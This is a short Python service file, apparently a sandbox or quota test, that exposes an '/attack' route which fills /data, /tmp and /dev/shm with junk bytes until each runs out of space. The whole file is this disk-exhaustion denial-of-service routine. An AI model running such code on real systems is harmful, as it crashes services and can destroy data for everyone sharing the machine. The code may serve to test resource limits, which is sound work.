from service import route, serve


@route("/attack")
def fill_every_disk():
    written = {}
    for folder in ["/data", "/tmp", "/dev/shm"]:
        written[folder] = 0
        try:
            with open(f"{folder}/fill", "wb", buffering=0) as file:
                while True:
                    written[folder] += file.write(b"x" * 65536)
        except OSError as error:
            print(folder, written[folder], error)
    return written


serve()
